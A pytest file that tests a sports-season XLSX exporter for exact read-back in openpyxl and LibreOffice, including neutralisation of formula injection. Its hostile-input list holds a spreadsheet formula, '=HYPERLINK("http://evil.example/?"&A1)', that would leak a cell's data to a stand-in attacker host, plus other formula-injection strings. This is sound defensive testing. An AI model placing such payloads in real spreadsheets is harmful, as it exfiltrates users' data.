"""season.xlsx (writers/xlsx.py, reports/exports.py): every cell reads back with openpyxl exactly as
written: the plain decimals of the columns of numbers (ranks, points, events, places, scores) as
number cells whose stored value is the decimal text itself, every other cell a string cell; and
LibreOffice opens the file and shows the same text, the numbers as numbers with their decimals
(its CSV export of every sheet, as Debian's libreoffice-calc-nogui writes it, text quoted and
numbers not, compared with the rows)."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import ROOT
from grandprix.errors import UsageError
from grandprix.reports.exports import (
    NUMBER_COLUMNS,
    TEXT_EXPORTS,
    text_exports,
    write_exports,
    xlsx_bytes,
    xlsx_sheets,
)
from grandprix.season.config import load_season
from grandprix.season.model import AwardRows, Held, Line, Season, Tables
from grandprix.season.standings import division_standings
from grandprix.writers import xlsx
from grandprix.writers.cells import FORMULA_STARTS
from grandprix.writers.xlsx import FORBIDDEN, Sheet, column_name, is_number, write_workbook

Rows = list[list[str]]
Value = str | int | float | None  # a cell as openpyxl reads it
# acf-2004 has divisions (Open, Junior, Women, ...); lupiae-2012-13 a bonus row for each player
SEASONS = ("utah-2012", "acf-2004", "lupiae-2012-13")
EXCEL_LONGEST = 32_767  # the most characters Excel holds in a cell
HOSTILE = [
    "<b>&amp;</b> \"double\" 'single' ]]> <!-- -->",
    "bell\x07 nul\x00 escape\x1b vertical tab\x0b form feed\x0c",
    "tab\tinside",
    "line\nfeed",
    "carriage\rreturn",
    " leading and trailing spaces ",
    "\ttab first",
    "Ünïcödé Łódź 😀 𝄞 مرحبا 東京",
    "\ufeffbyte order mark, no-break\u00a0space, line\u2028separator",
    "\ufffe\uffff noncharacters",
    "_x0041_ and _x005F_x0042_ (escapes of ECMA-376, shown as written)",
    "L" * EXCEL_LONGEST,
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd",
    "-1+2",
    "@SUM(1)",
    "#N/A",
    "0012",
    "TRUE",
]


def season_tables(name: str) -> tuple[Season, Tables]:
    season, problems = load_season(ROOT / "examples" / name)
    assert season is not None, problems
    return season, division_standings(season)


def hostile_tables(tables: Tables) -> Tables:
    """The tables with hostile text in every text column: divisions, player names and event
    names (each line's awards made again with hostile event names, the same of them counted)."""
    out: Tables = []
    for d, (division, lines) in enumerate(tables):
        changed: list[Line] = []
        for i, line in enumerate(lines):
            table = AwardRows()  # the line's awards, each with a hostile event name
            for k, a in enumerate(line.awards):
                table.add(
                    a._replace(origin=a.origin._replace(event_name=HOSTILE[(i + k) % len(HOSTILE)]))
                )
            row = {id(a): k for k, a in enumerate(line.awards)}
            counted = (
                None if line.held.counted_rows is None else tuple(row[id(a)] for a in line.counted)
            )
            held = Held(
                table, tuple(range(len(table))), counted, tuple(row[id(a)] for a in line.dropped)
            )
            changed.append(dataclasses.replace(line, name=HOSTILE[i % len(HOSTILE)], held=held))
        out.append((HOSTILE[d] + division, changed))
    return out


def written(
    rows: Sequence[Sequence[str]], numbers: frozenset[int] = frozenset()
) -> list[list[Value]]:
    """What openpyxl reads back for ``rows`` whose columns ``numbers`` hold numbers: there a
    plain decimal as the number openpyxl makes of its text; elsewhere the characters XML cannot
    hold left out, and a cell left empty (None) where nothing is left."""
    return [[_written(v, i in numbers) for i, v in enumerate(row)] for row in rows]


def _written(value: str, number: bool) -> Value:
    if number and is_number(value):
        return float(value) if "." in value else int(value)
    return FORBIDDEN.sub("", value) or None


def numbers_of(header: Sequence[str]) -> frozenset[int]:
    """The columns of numbers of a sheet of season.xlsx with this header."""
    return frozenset(i for i, name in enumerate(header) if name in NUMBER_COLUMNS)


def read_back(data: bytes | Path, full: bool = True) -> dict[str, list[list[Value]]]:
    """Every sheet's rows as openpyxl reads them, asserting every cell is a string cell (a
    value of type str ('s'), or empty and typed as a string, as openpyxl writes '') or a
    number cell whose number format shows the decimals its value was written with. Rows are
    as wide as the widest; with ``full`` every cell of them must be in the file."""
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    kinds = {("s", str), ("inlineStr", type(None)), ("n", int), ("n", float)}
    kinds |= set() if full else {("n", type(None))}
    sheets: dict[str, list[list[Value]]] = {}
    for sheet in book:
        rows = sheets.setdefault(sheet.title, [])
        for row in sheet.iter_rows():
            values: list[Value] = []
            for cell in row:
                where = (sheet.title, cell.coordinate, cell.data_type, cell.value)
                assert (cell.data_type, type(cell.value)) in kinds, where
                assert cell.value is None or isinstance(cell.value, str | int | float)
                if isinstance(cell.value, int):
                    assert cell.number_format == "General", where
                elif isinstance(cell.value, float):
                    assert re.fullmatch("0[.]0+", cell.number_format), where
                values.append(cell.value)
            rows.append(values)
    return sheets


def stored_numbers(data: bytes | Path) -> list[list[str]]:
    """The text of every number cell's value (``<v>``) in each sheet, in order: what the file
    itself holds, before any program makes a binary number of it."""
    with zipfile.ZipFile(io.BytesIO(data) if isinstance(data, bytes) else data) as book:
        parts = sorted(n for n in book.namelist() if n.startswith("xl/worksheets/sheet"))
        parts.sort(key=len)  # sheet2.xml before sheet10.xml
        return [re.findall("<v>([^<]*)</v>", book.read(part).decode()) for part in parts]


def numbers_written(rows: Sequence[Sequence[str]], numbers: frozenset[int]) -> list[str]:
    """The values of ``rows`` that the columns ``numbers`` hold as number cells, in order."""
    return [v for row in rows for i, v in enumerate(row) if i in numbers and is_number(v)]


def csv_rows(text: str) -> Rows:
    return list(csv.reader(io.StringIO(text, newline="")))


# openpyxl reads back what was written


@pytest.mark.parametrize("name", SEASONS)
def test_season_xlsx_reads_back_as_the_csv_exports(name: str, tmp_path: Path) -> None:
    season, tables = season_tables(name)
    assert write_exports(tmp_path, season, tables) == [*TEXT_EXPORTS, "season.xlsx"]
    texts = text_exports(season, tables)
    for export, text in texts.items():  # the CSV rows made in the same pass as the XLSX's
        assert (tmp_path / export).read_text(encoding="utf-8") == text, export
    got = read_back(tmp_path / "season.xlsx")
    assert list(got) == ["Standings", "Results"]
    stored = stored_numbers(tmp_path / "season.xlsx")
    for k, (title, export) in enumerate(
        (("Standings", "standings.csv"), ("Results", "results.csv"))
    ):
        expected = csv_rows(texts[export])
        numbers = numbers_of(expected[0])
        assert len(expected) > 10 and len(numbers) == 3
        assert got[title] == written(expected, numbers), title
        assert stored[k] == numbers_written(expected, numbers), title
    if name == "acf-2004":
        assert {row[0] for row in got["Standings"][1:]} >= {"Open", "Junior", "Women"}


@pytest.mark.parametrize("name", [*SEASONS, "circuit-2026"])
def test_points_events_places_and_single_ranks_are_numbers_with_the_csv_decimals(
    name: str,
) -> None:
    """What a spreadsheet sorts and sums: every standings line's points and events, and every
    result's points, are number cells; a rank or place is a number unless shared ('9-10'); the
    number cell's value is the CSV's decimal text ('72.00'), shown with its decimals."""
    season, tables = season_tables(name)
    data = xlsx_bytes(season, tables)
    texts = text_exports(season, tables)
    book = load_workbook(io.BytesIO(data))
    for title, export in (("Standings", "standings.csv"), ("Results", "results.csv")):
        expected = csv_rows(texts[export])
        header = expected[0]
        for row, cells in zip(expected[1:], book[title].iter_rows(min_row=2), strict=True):
            for column in ("points", "events", "rank", "place", "score"):
                if column not in header:
                    continue
                text, cell = row[header.index(column)], cells[header.index(column)]
                where = (name, title, cell.coordinate, text)
                if (column in ("rank", "place") and "-" in text) or text == "":
                    assert cell.data_type in ("s", "inlineStr"), where
                    continue
                assert cell.data_type == "n" and isinstance(cell.value, int | float), where
                assert Decimal(text) == Decimal(repr(cell.value)), where
                decimals = len(text.partition(".")[2])
                assert cell.number_format == ("0." + "0" * decimals if decimals else "General")
        points = [row[header.index("points")] for row in expected[1:]]
        assert points and all(re.fullmatch(r"[0-9]+[.][0-9]{2}|[0-9]+", p) for p in points)


@pytest.mark.parametrize("name", ["acf-2004", "lupiae-2012-13"])  # lupiae: rows of bonuses
def test_results_beyond_a_sheet_go_on_in_more_sheets(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sheet holds at most MAX_ROWS rows (1,048,576: the most Excel opens; a 100,000-event
    season has 5 million results): the results go on in Results 2, Results 3, ..., each with
    its header, and read back as results.csv. Shown here with a smaller limit."""
    season, tables = season_tables(name)
    texts = text_exports(season, tables)
    expected = csv_rows(texts["results.csv"])
    limit = len(csv_rows(texts["standings.csv"])) + 1  # the standings still fit in one sheet
    assert len(expected) > 2 * limit
    monkeypatch.setattr(xlsx, "MAX_ROWS", limit)
    write_exports(tmp_path, season, tables)
    got = read_back(tmp_path / "season.xlsx")
    parts = -(-(len(expected) - 1) // (limit - 1))
    assert list(got) == ["Standings", "Results", *(f"Results {n}" for n in range(2, parts + 1))]
    results = [got[name] for name in got if name != "Standings"]
    assert all(sheet[0] == expected[0] for sheet in results)
    assert all(len(sheet) <= limit for sheet in results)
    numbers = numbers_of(expected[0])
    assert [row for sheet in results for row in sheet[1:]] == written(expected[1:], numbers)
    assert (tmp_path / "results.csv").read_text(encoding="utf-8") == texts["results.csv"]


def test_a_sheet_longer_than_a_sheet_can_be_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    xlsx_of([("Fits", [["a"], ["b"], ["c"]])])
    with pytest.raises(ValueError, match="at most 3 rows"):
        xlsx_of([("Long", [["a"], ["b"], ["c"], ["d"]])])


@pytest.mark.parametrize("name", SEASONS)
def test_hostile_text_reads_back_exactly_and_formulas_stay_neutralised(
    name: str, tmp_path: Path
) -> None:
    season, tables = season_tables(name)
    tables = hostile_tables(tables)
    write_exports(tmp_path, season, tables)
    got = read_back(tmp_path / "season.xlsx")
    # The rows, not the CSV files: a bare carriage return in a CSV field is not quoted by
    # Python's csv module with lineterminator '\n', so the CSV of such text reads back split.
    for sheet in xlsx_sheets(season, tables):
        assert got[sheet.name] == written(list(sheet.rows), sheet.numbers), sheet.name
    values = {v for rows in got.values() for row in rows for v in row if v}
    formulas = [v for v in HOSTILE if v.startswith(FORMULA_STARTS)]
    assert len(formulas) == 5 and not values & set(formulas)
    assert {"'" + v for v in formulas} | {"#N/A", "0012", "L" * EXCEL_LONGEST} <= values
    with zipfile.ZipFile(tmp_path / "season.xlsx") as book:
        for part in book.namelist():
            assert b"<f>" not in book.read(part) and b"<f " not in book.read(part), part


def test_every_kind_of_row_reads_back() -> None:
    """Plain rows, rows needing care, ragged, empty, wide (past column Z) rows; the writer
    leaves formulas to the caller: '=1+1' is a string cell all the same."""
    rows = [
        ["division", "name", "note"],
        ["", "Smith, Jo", ""],
        ["=1+1", " spaced ", "a&b"],
        ["short"],
        [],
        ["x"] * 30,
        ["", "", ""],
        *([f"r{i}", "plain", str(i)] for i in range(2_500)),  # several pieces of CHUNK rows
        HOSTILE,
    ]
    got = read_back(xlsx_of([("Rows", rows), ("More", [["1"]])]), full=False)
    expected = written(rows)
    # openpyxl makes every row as wide as the widest: the cells not in the file are None.
    width = max(map(len, rows))
    assert got["Rows"] == [row + [None] * (width - len(row)) for row in expected]
    assert got["More"] == [["1"]]


def xlsx_of(sheets: Sequence[Sheet | tuple[str, Rows]]) -> bytes:
    out = io.BytesIO()
    write_workbook(out, sheets)
    return out.getvalue()


# Numbers a column of numbers holds as number cells, and values it holds as text
NUMBERS = ["72.00", "-1.5", "0", "3", "-0.25", "1234567890.12345", "0.000001", "99999999999999.9"]
NOT_NUMBERS = [
    "9-10",
    "",
    "1e3",
    "1E3",
    "inf",
    "-inf",
    "Infinity",
    "NaN",
    "nan",
    "0012",
    "-012",
    "+1",
    "1.",
    ".5",
    "-.5",
    " 1",
    "1 ",
    "1,5",
    "1.5.1",
    "=1+1",
    "-",
    "--1",
    "0x1F",
    "1_000",
    "½",
    "١٢",
    "１２",
    "1234567890.123456",
    "12345678901234567",
    "-1234567890123456",
]


def test_a_column_of_numbers_holds_plain_decimals_as_numbers_and_anything_else_as_text() -> None:
    """A plain decimal of at most 15 digits is a number cell whose stored value is its text
    ('72.00', not the float's '72.0'); anything else, however like a number, is text: shared
    places, exponents, infinities, leading zeros, signs but a leading minus, other digits, and
    decimals longer than a spreadsheet's number keeps. The same values in a column of text stay
    text, and no value is ever a formula."""
    assert all(map(is_number, NUMBERS)) and not any(map(is_number, NOT_NUMBERS))
    values = [*NUMBERS, *NOT_NUMBERS, *HOSTILE]
    rows = [["number", "text"], *([v, v] for v in values)]
    data = xlsx_of([Sheet("Values", rows, frozenset({0}))])
    got = read_back(data)["Values"]
    assert got == written(rows, frozenset({0}))
    numbers = [row[0] for row in got[1 : len(NUMBERS) + 1]]
    assert all(isinstance(n, int | float) for n in numbers)
    assert [Decimal(repr(n)) for n in numbers] == [Decimal(v) for v in NUMBERS]
    assert all(not isinstance(row[0], int | float) for row in got[len(NUMBERS) + 1 :])
    assert [[row[1]] for row in got] == written([[v] for v in ["text", *values]])
    assert stored_numbers(data) == [NUMBERS]
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert b"<f" not in book.read("xl/worksheets/sheet1.xml")


def test_a_sheet_without_columns_of_numbers_is_all_text() -> None:
    rows = [["points"], *([v] for v in NUMBERS)]
    assert read_back(xlsx_of([("Text", rows)]))["Text"] == rows
    assert stored_numbers(xlsx_of([("Text", rows)])) == [[]]


TEXT = st.text(st.characters(exclude_categories=()), max_size=12) | st.sampled_from(HOSTILE[:-8])
DECIMALS = st.from_regex(r"-?(0|[1-9][0-9]{0,8})([.][0-9]{1,6})?", fullmatch=True)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_text_reads_back_but_what_xml_cannot_hold(rows: Rows) -> None:
    got = read_back(xlsx_of([("Any", rows)]), full=False)["Any"]
    expected = written(rows)
    width = max(map(len, rows))
    assert got == [row + [None] * (width - len(row)) for row in expected]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.lists(TEXT | DECIMALS, min_size=1, max_size=4), min_size=1, max_size=5),
    st.frozensets(st.integers(0, 4)),
)
def test_any_decimal_in_a_column_of_numbers_is_stored_as_written(
    rows: Rows, numbers: frozenset[int]
) -> None:
    data = xlsx_of([Sheet("Any", rows, numbers)])
    got = read_back(data, full=False)["Any"]
    width = max(map(len, rows))
    assert got == [row + [None] * (width - len(row)) for row in written(rows, numbers)]
    assert stored_numbers(data) == [numbers_written(rows, numbers)]


def test_the_bytes_depend_only_on_the_rows(tmp_path: Path) -> None:
    season, tables = season_tables("acf-2004")
    write_exports(tmp_path, season, tables)
    data = (tmp_path / "season.xlsx").read_bytes()
    assert xlsx_bytes(season, tables) == data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert book.testzip() is None
        assert {info.date_time for info in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert book.namelist() == [
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/worksheets/sheet1.xml",
            "xl/worksheets/sheet2.xml",
        ]


def test_sheet_names_spreadsheets_refuse_are_refused() -> None:
    for bad in ("", "x" * 32, "a/b", "[x]", "'quoted'", "tab\there"):
        with pytest.raises(UsageError, match="cannot name a sheet"):
            xlsx_of([(bad, [])])
    with pytest.raises(UsageError, match="two sheets of one name"):
        xlsx_of([("Results", []), ("results", [])])
    assert read_back(xlsx_of([('A & B <1> "q" ü', [["x"]])])) == {'A & B <1> "q" ü': [["x"]]}


def test_column_names() -> None:
    assert [column_name(i) for i in (0, 25, 26, 51, 52, 701, 702, 16_383)] == [
        "A",
        "Z",
        "AA",
        "AZ",
        "BA",
        "ZZ",
        "AAA",
        "XFD",
    ]


# LibreOffice opens it

LIBREOFFICE_PACKAGE = "libreoffice-calc-nogui"
# CSV filter options (LibreOffice 7.2 or later): comma, double quote, UTF-8, from line 1, no
# column formats, language 0, quote all text cells (so a number is the field left unquoted),
# detect special numbers (import only), save the cell contents as shown (a number with the
# decimals of its number format), no formulas, keep spaces, and the last token, -1: every sheet
# into a file of its own, FILE-SHEET.csv.
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,UTF8,1,,0,true,true,true,false,false,-1"
# A field of such a CSV file: quoted (text; a doubled quote is one) or not (a number or empty).
FIELD = re.compile(r'"((?:[^"]|"")*)"|([^,"\n]*)')


def soffice() -> str:
    """Debian's LibreOffice. Skipped without it, except in CI, where it must be there."""
    found = shutil.which("soffice")
    if found is None:
        reason = (
            f"LibreOffice is not installed (.ci/run installs it: apt install {LIBREOFFICE_PACKAGE})"
        )
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    return found


Books = dict[str, list[Sheet]]  # each workbook's sheets, by file stem, their rows lists


@pytest.fixture(scope="module")
def libreoffice(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Books]]:
    """The workbooks of the examples, of the examples with hostile text and of the writer's own
    hostile rows and numbers, converted by one run of LibreOffice: the folder of its CSV files
    and the sheets written, by file stem."""
    program = soffice()
    folder = tmp_path_factory.mktemp("libreoffice")
    books: Books = {}
    for name in SEASONS:
        season, tables = season_tables(name)
        for stem, these in ((name, tables), (f"{name}-hostile", hostile_tables(tables))):
            (folder / stem).mkdir()
            write_exports(folder / stem, season, these)
            (folder / stem / "season.xlsx").rename(folder / f"{stem}.xlsx")
            books[stem] = [
                Sheet(t, [list(r) for r in rows], numbers)
                for t, rows, numbers in xlsx_sheets(season, these)
            ]
    books["writer"] = [
        Sheet("Raw", [["=1+1", "#N/A", "-1.50"], HOSTILE[:7], HOSTILE[7:14], HOSTILE[14:]]),
        Sheet("Numbers", [[v, v] for v in NUMBERS + NOT_NUMBERS], frozenset({0})),
    ]
    (folder / "writer.xlsx").write_bytes(xlsx_of(books["writer"]))
    done = subprocess.run(
        [
            program,
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            CSV_FILTER,
            "--outdir",
            str(folder / "csv"),
            *(str(folder / f"{stem}.xlsx") for stem in books),
        ],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    expected = sorted(f"{stem}-{sheet.name}.csv" for stem in books for sheet in books[stem])
    assert sorted(p.name for p in (folder / "csv").iterdir()) == expected, done.stdout
    yield folder / "csv", books


def fields(text: str) -> list[list[tuple[str, bool]]]:
    """The rows of LibreOffice's CSV ``text``, each field its value and whether it was quoted
    (``csv.reader`` does not say)."""
    rows: list[list[tuple[str, bool]]] = []
    row: list[tuple[str, bool]] = []
    at = 0
    while at < len(text):
        match = FIELD.match(text, at)
        assert match is not None and match.end() < len(text), text[at : at + 40]
        quoted = match.group(1)
        row.append((quoted.replace('""', '"'), True) if quoted is not None else (match[2], False))
        at = match.end() + 1
        if text[match.end()] == "\n":
            rows.append(row)
            row = []
        else:
            assert text[match.end()] == ",", text[at - 1 : at + 40]
    return rows


def as_libreoffice_shows(sheet: Sheet) -> list[list[tuple[str, bool]]]:
    """The rows as LibreOffice's CSV has them, each value with whether it is quoted (text) or
    not (a number, or an empty cell): what XML cannot hold left out, a carriage return before
    a line feed dropped (LibreOffice keeps a lone one), every row as wide as the widest; a
    number shown as written, with its decimals."""
    rows = list(sheet.rows)
    width = max(map(len, rows))
    out = []
    for row in rows:
        shown = []
        for i, value in enumerate([*row, *[""] * (width - len(row))]):
            text = FORBIDDEN.sub("", value).replace("\r\n", "\n")
            shown.append((text, bool(text) and not (i in sheet.numbers and is_number(value))))
        out.append(shown)
    return out


@pytest.mark.parametrize("stem", [*SEASONS, *(f"{name}-hostile" for name in SEASONS), "writer"])
def test_libreoffice_shows_every_sheet_as_written_numbers_as_numbers(
    stem: str, libreoffice: tuple[Path, Books]
) -> None:
    folder, books = libreoffice
    for sheet in books[stem]:
        path = folder / f"{stem}-{sheet.name}.csv"
        assert path.exists(), sorted(p.name for p in folder.iterdir())
        got = fields(path.read_bytes().decode("utf-8"))  # a lone CR stays a CR
        assert got == as_libreoffice_shows(sheet), (stem, sheet.name)
        if sheet.numbers and stem != "writer":  # a season's points: numbers in every row
            points = next(iter(sheet.rows)).index("points")
            assert all(not row[points][1] for row in got[1:]), (stem, sheet.name)
